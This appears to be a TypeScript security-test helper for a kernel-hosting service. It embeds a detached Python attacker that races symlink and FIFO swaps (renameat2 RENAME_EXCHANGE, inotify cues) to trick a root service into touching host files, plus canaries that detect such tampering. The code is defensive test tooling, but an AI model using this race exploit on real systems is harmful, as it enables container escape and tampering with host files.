/**
 * A hostile program left running inside a kernel, and the canaries that tell whether it got the service
 * (which runs as root on the host) to touch a host file for it.
 *
 * The attacker is a detached process (double fork + setsid: it outlives the cell that started it, and
 * runs on in the container until the container's processes are killed). It waits until a directory it
 * can see becomes writable for it, then as fast as it can plants symlinks to host paths (the attacker
 * cannot see the host, but guesses a path: here the tests hand it the canary's host path) and swaps them
 * with real entries in a loop (`renameat2(RENAME_EXCHANGE)`, atomic), so that whatever the service does
 * to that directory at that moment, a path it checked may be a link when it acts on it.
 */
import { chmodSync, chownSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Call } from '../helpers/http-client.js';
import { query } from '../helpers/v1-client.js';
import { eventually, sleep } from '../helpers/wait.js';

export interface AttackPlan {
  /** The directory (container path) to wait for and attack. */
  dir: string;
  /** Give up after this many seconds without the directory becoming writable. */
  waitSeconds: number;
  /** Host path of a directory: planted as `l<i>` symlinks that are swapped with real directories `d<i>`. */
  tree?: string;
  /** Host path of a file: `<dir>/<connName>` is replaced by a symlink to it (and swapped back and forth). */
  file?: string;
  /** The entry replaced by the link to `file` (default conn.json). */
  connName?: string;
  /**
   * With `file`: a copy of conn.json is put at `<dir>/<decoy>` and the link target is `file` as given
   * (relative): `../../conn/<decoy>` resolves to that copy in the container (/conn is one level below /),
   * so the restarted kernel starts as usual, and on the host (<tmp>/pk-x/<id>) to `<tmp>/conn/<decoy>`.
   */
  decoy?: string;
  /** Keep swapping `connName` with the link (true) or replace it once and keep it replaced (false). */
  swapConn?: boolean;
  /** Write a file of up to this many MB (outside every cap, if the directory is on the host). */
  writeMB?: number;
  /** Keep creating and removing entries (a recursive removal then races with new entries). */
  churn?: boolean;
  /**
   * Extra `(real, link target)` pairs: entry `<dir>/<real>` (made a directory if missing) is swapped with a
   * symlink to `target`.
   */
  pairs?: [string, string][];
  /** Entries of `<dir>` swapped with a FIFO (opening one for reading blocks until a writer comes). */
  fifos?: string[];
  /**
   * Waits (inotify) until `watch` (a file under `<dir>/<real>`) is opened, e.g. by the service checking a
   * notebook at submission, then swaps the directory `<dir>/<real>` with a link to `target`, holds it
   * for the next of `holdSeconds` (while the service goes on with the path it checked) and swaps it back;
   * again and again. Instead of the tight swap loop.
   */
  onOpen?: { watch: string; real: string; target: string; holdSeconds: number[] };
}

/** The detached program (python3, run with `python3 -c PROGRAM PLAN_JSON`). */
const ATTACKER = String.raw`
import ctypes, json, os, sys, time
plan = json.loads(sys.argv[1])
D = plan["dir"]
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
if hasattr(libc, "renameat2"):
    def xchg(a, b): return libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
else:
    def xchg(a, b): return libc.syscall(316, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
open("/tmp/attacker-ready", "w").write(str(os.getpid()))
deadline = time.time() + plan["waitSeconds"]
while not os.access(D, os.W_OK | os.X_OK):
    if time.time() > deadline:
        sys.exit(0)
    time.sleep(0.0002)
conn_copy = None
try:
    conn_copy = open(D + "/conn.json", "rb").read()
except OSError:
    pass
swaps = []
def attempt(f):
    try:
        f()
    except OSError:
        pass
if plan.get("decoy") and conn_copy is not None:
    def put_decoy():
        os.makedirs(os.path.dirname(D + "/" + plan["decoy"]), exist_ok=True)
        with open(D + "/" + plan["decoy"], "wb") as f:
            f.write(conn_copy)
    attempt(put_decoy)
if plan.get("file"):
    name = plan.get("connName") or "conn.json"
    link = D + "/.x" + name
    attempt(lambda: os.symlink(plan["file"], link))
    if plan.get("swapConn"):
        swaps.append(((D + "/" + name).encode(), link.encode()))
    else:
        attempt(lambda: os.rename(link, D + "/" + name))
for real, target in plan.get("pairs") or []:
    if not os.path.lexists(D + "/" + real):
        attempt(lambda: os.makedirs(D + "/" + real))
    link = D + "/.l-" + os.path.basename(real)
    attempt(lambda: os.symlink(target, link))
    swaps.append(((D + "/" + real).encode(), link.encode()))
for name in plan.get("fifos") or []:
    fifo = D + "/.f-" + os.path.basename(name)
    attempt(lambda: os.mkfifo(fifo))
    swaps.append(((D + "/" + name).encode(), fifo.encode()))
if plan.get("tree"):
    for i in range(8):
        attempt(lambda: os.symlink(plan["tree"], "%s/l%d" % (D, i)))
        def mk():
            os.mkdir("%s/d%d" % (D, i))
            for j in range(3):
                open("%s/d%d/f%d" % (D, i, j), "w").close()
        attempt(mk)
        swaps.append((("%s/d%d" % (D, i)).encode(), ("%s/l%d" % (D, i)).encode()))
if plan.get("writeMB"):
    def write():
        with open(D + "/.big", "wb") as f:
            chunk = b"x" * (1 << 20)
            for _ in range(plan["writeMB"]):
                f.write(chunk)
                f.flush()
    attempt(write)
if plan.get("onOpen"):
    o = plan["onOpen"]
    real, link = (D + "/" + o["real"]).encode(), (D + "/.l-" + os.path.basename(o["real"])).encode()
    attempt(lambda: os.symlink(o["target"], link))
    fd = libc.inotify_init()
    IN_OPEN = 0x20
    # The watch is on the file's inode: it stays put when its directory is swapped away and back.
    libc.inotify_add_watch(fd, (D + "/" + o["watch"]).encode(), IN_OPEN)
    holds = 0
    while True:
        os.read(fd, 4096)
        xchg(real, link)
        time.sleep(o["holdSeconds"][holds % len(o["holdSeconds"])])
        holds += 1
        xchg(real, link)
        # Opens seen meanwhile are not cues: only the next one counts.
        os.set_blocking(fd, False)
        try:
            while os.read(fd, 4096):
                pass
        except BlockingIOError:
            pass
        os.set_blocking(fd, True)
n = 0
while True:
    for a, b in swaps:
        xchg(a, b)
    if not plan.get("file") or plan.get("swapConn"):
        pass
    elif not os.path.islink(D + "/" + (plan.get("connName") or "conn.json")):
        attempt(lambda: os.symlink(plan["file"], D + "/.y"))
        attempt(lambda: os.rename(D + "/.y", D + "/" + (plan.get("connName") or "conn.json")))
    if plan.get("churn"):
        n += 1
        attempt(lambda: open("%s/.c%d" % (D, n % 64), "w").close())
        attempt(lambda: os.unlink("%s/.c%d" % (D, (n + 32) % 64)))
    if not swaps and not plan.get("churn") and not plan.get("file"):
        time.sleep(0.001)
`;

/** The cell (python3) that starts the attacker detached and returns once it runs. */
export function launcherCell(plan: AttackPlan): string {
  return `
import os, sys, time
try: os.unlink("/tmp/attacker-ready")
except OSError: pass
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            fd = os.open("/dev/null", os.O_RDWR)
            for i in (0, 1, 2): os.dup2(fd, i)
            os.closerange(3, 65536)
            os.execv(sys.executable, [sys.executable, "-c", ${JSON.stringify(ATTACKER)}, ${JSON.stringify(JSON.stringify(plan))}])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
for _ in range(500):
    if os.path.exists("/tmp/attacker-ready"): break
    time.sleep(0.01)
print("ATTACKER", "ready" if os.path.exists("/tmp/attacker-ready") else "missing")
`;
}

/** Starts the attacker in a kernel (v1 query); throws when it did not start. */
export async function launchAttacker(call: Call, kernelId: string, plan: AttackPlan): Promise<void> {
  const outcome = await query(call, kernelId, launcherCell(plan));
  if (!outcome.text.includes('ATTACKER ready')) throw new Error(`the attacker did not start: ${outcome.status} ${outcome.text}`);
}

interface Stamp {
  uid: number;
  gid: number;
  mode: number;
  size: number;
  type: string;
}

function stampOf(file: string): Stamp | undefined {
  try {
    const s = lstatSync(file);
    const type = s.isSymbolicLink() ? 'link' : s.isDirectory() ? 'dir' : s.isFile() ? 'file' : 'other';
    return { uid: s.uid, gid: s.gid, mode: s.mode & 0o7777, size: s.size, type };
  } catch {
    return undefined;
  }
}

/**
 * Root-owned host files that no kernel may touch: a tree (`files` files, each 0644, in a 0755 directory)
 * and a single file (0644), both under os.tmpdir(), outside the service's state directory.
 */
export class Canary {
  readonly root: string;
  readonly tree: string;
  readonly file: string;
  private readonly before = new Map<string, Stamp>();

  constructor(label: string, files = 200, parent = os.tmpdir()) {
    mkdirSync(parent, { recursive: true, mode: 0o755 });
    this.root = mkdtempSync(path.join(parent, `pk-canary-${label}-`));
    chmodSync(this.root, 0o755);
    this.tree = path.join(this.root, 'tree');
    mkdirSync(path.join(this.tree, 'sub'), { recursive: true });
    chmodSync(this.tree, 0o755);
    for (let i = 0; i < files; i++) {
      const file = path.join(this.tree, i % 10 === 0 ? `sub/f${i}` : `f${i}`);
      writeFileSync(file, `canary ${i}\n`, { mode: 0o644 });
      chmodSync(file, 0o644);
      chownSync(file, 0, 0);
    }
    this.file = path.join(this.root, 'owned');
    writeFileSync(this.file, 'canary file\n', { mode: 0o644 });
    chmodSync(this.file, 0o644);
    for (const entry of this.entries()) this.before.set(entry, stampOf(entry)!);
  }

  private entries(): string[] {
    const out = [this.root, this.tree, this.file];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const entry = path.join(dir, name);
        out.push(entry);
        if (lstatSync(entry).isDirectory()) walk(entry);
      }
    };
    walk(this.tree);
    return out;
  }

  /** What changed since creation: missing files, other owner or mode, new files. Empty = untouched. */
  damage(): string[] {
    const found: string[] = [];
    let missing = 0;
    for (const [entry, was] of this.before) {
      const now = stampOf(entry);
      if (!now) {
        missing++;
        continue;
      }
      if (now.uid !== was.uid || now.gid !== was.gid || now.mode !== was.mode || now.type !== was.type) {
        found.push(`${path.relative(this.root, entry) || '.'}: ${was.uid}:${was.gid} ${was.mode.toString(8)} -> ${now.uid}:${now.gid} ${now.mode.toString(8)}`);
      }
    }
    if (missing) found.push(`${missing} of ${this.before.size} canary entries removed`);
    let extra = 0;
    try {
      for (const entry of this.entries()) if (!this.before.has(entry)) extra++;
    } catch {
      // The tree itself was removed: counted above.
    }
    if (extra) found.push(`${extra} new entries in the canary tree`);
    return found;
  }

  remove(): void {
    rmSync(this.root, { recursive: true, force: true });
  }
}

/**
 * A canary file that a link planted in a socket directory reaches on the host, while the same link
 * reaches a copy of conn.json in the container (see AttackPlan.decoy): a restart through it succeeds, so
 * nothing but the canary tells that the service followed it.
 */
export function twoFacedLink(label: string): { canary: Canary; plan: Pick<AttackPlan, 'file' | 'decoy'> } {
  const canary = new Canary(label, 4, path.join(os.tmpdir(), 'conn'));
  const name = `${path.basename(canary.root)}/owned`;
  return { canary, plan: { file: `../../conn/${name}`, decoy: name } };
}

/** Entries of a kernel's host socket directory that are not the service's own (conn.json, k-1 … k-5). */
export function foreignEntries(connDir: string): string[] {
  let names: string[];
  try {
    names = readdirSync(connDir);
  } catch {
    return [];
  }
  const out: string[] = [];
  for (const name of names) {
    const s = lstatSync(path.join(connDir, name), { throwIfNoEntry: false });
    if (!s) continue;
    const own = (name === 'conn.json' && s.isFile() && s.size < 4096) || (/^k-[1-5]$/.test(name) && s.isSocket());
    if (!own) out.push(`${name} (${s.isSymbolicLink() ? 'link' : s.isDirectory() ? 'dir' : `${s.size} bytes`})`);
  }
  return out;
}

/**
 * Calls `first`, then `second` `delayMs` later, or `delayMs` after `cue` resolved (`cue` gives up on its
 * own): both run to their end; resolves with both answers.
 */
export async function overlap<A, B>(first: () => Promise<A>, second: () => Promise<B>, delayMs: number, cue?: () => Promise<unknown>): Promise<[A, B]> {
  const a = first();
  if (cue) await cue();
  await sleep(delayMs);
  const b = second();
  return Promise.all([a, b]);
}

/**
 * Resolves once the host directory is handed to the kernel's user (uid 1000), or after `timeoutMs`: the
 * test's stand-in for an attacker who times its second request by trial and error.
 */
export async function handedToKernel(dir: string, timeoutMs = 3000): Promise<boolean> {
  return eventually(() => lstatSync(dir, { throwIfNoEntry: false })?.uid === 1000, timeoutMs, 1);
}

/** Resolves once the attacker's first link (`l0`, see AttackPlan.tree) is in the host directory, or after `timeoutMs`. */
export async function planted(dir: string, timeoutMs = 3000): Promise<boolean> {
  return eventually(() => lstatSync(path.join(dir, 'l0'), { throwIfNoEntry: false }) !== undefined, timeoutMs, 1);
}
